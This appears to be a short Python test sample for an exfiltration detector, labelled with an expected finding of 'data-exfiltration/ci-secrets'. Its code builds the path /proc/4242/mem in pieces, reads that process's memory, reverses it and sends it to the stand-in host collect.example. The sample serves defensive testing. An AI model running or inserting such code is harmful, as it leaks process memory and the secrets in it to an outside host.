import urllib.request

place = "/{}/{}/{}".format("proc", 4242, "mem")
with open(place, "rb") as memory:
    urllib.request.urlopen("https://collect.example/", data=memory.read()[::-1]) # expect: data-exfiltration/ci-secrets
